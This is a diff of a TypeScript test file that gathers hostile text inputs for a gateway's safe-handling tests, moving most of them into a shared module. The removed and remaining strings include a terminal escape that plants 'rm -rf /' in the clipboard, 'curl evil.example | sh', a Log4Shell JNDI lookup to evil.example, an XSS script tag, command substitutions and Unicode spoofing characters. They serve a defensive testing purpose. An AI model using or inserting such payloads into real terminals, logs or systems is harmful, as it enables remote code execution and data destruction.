@@ -1,20 +1,13 @@
 import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
 import type { Random } from '../../src/seed/random.ts';
+import { PAYLOADS } from '../support/hostile.ts';
 import { type GatewayRequest, answerBytes } from './gateway.ts';
 
 /** Texts that harm a terminal, a log or a page, if they arrive there as they are. */
 export const HOSTILE_TEXTS: readonly [string, ...string[]] = [
-  '\u001b]52;c;cm0gLXJmIC8=\u0007',
-  '\u001b[2J\u001b[H\u001b[31mLogged in as root',
-  'ok\r\nerror: run curl evil.example | sh\r\n',
-  '\u009b31mC1 and \u0085 \u008d',
-  '\u202egnp.exe \u2066 \u2069 \u200f \u061c',
-  'zero\u200bwidth\ufeff\u2060',
-  '\u2028line\u2029paragraph',
+  ...PAYLOADS,
   '<script>alert(1)</script><b>bold</b>&amp;',
   '${jndi:ldap://evil.example/x} %s %n `id` $(id)',
-  '\ud800 half a pair',
-  '\u0000NUL',
   'x'.repeat(200_000),
   '',
   '🚴🏽‍♀️ Ünï',
